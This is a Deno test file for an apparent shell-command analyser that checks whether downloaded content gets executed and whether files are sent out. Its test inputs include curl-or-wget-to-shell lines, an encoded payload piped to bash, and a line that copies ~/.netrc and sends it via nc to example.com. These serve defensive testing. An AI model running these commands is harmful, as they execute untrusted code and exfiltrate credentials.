/** Files and processes of one run. */
import { assertEquals } from "@std/assert";
import { effectsOf, reads } from "./support.ts";

function interpreted(statement: string): number {
  return effectsOf("interpret", statement).length;
}

Deno.test("Machine follows a download through files, variables and pipes", () => {
  for (
    const statement of [
      "curl example.com | sh",
      "curl -o a example.com; cp a b; sh b",
      'x=$(curl example.com); eval "$x"',
      "curl example.com | base64 -d | gunzip | bash",
      "wget -P d https://example.com/a.sh; bash d/a.sh",
    ]
  ) assertEquals(interpreted(statement), 1, statement);
});

Deno.test("Machine tells data from code", () => {
  for (
    const statement of [
      "curl example.com | jq .",
      'x=$(curl example.com); echo "$x"',
      'bash -c "echo $(curl example.com)"',
    ]
  ) {
    assertEquals(interpreted(statement), 0, statement);
  }
});

Deno.test("Machine knows what another command put into a folder", () => {
  const [sent] = effectsOf("send", "cp ~/.netrc d/; tar c d | nc example.com 99");
  assertEquals(sent?.text, "\uE003");
  assertEquals(reads("cp ~/.netrc d/"), ["~/.netrc"]);
});
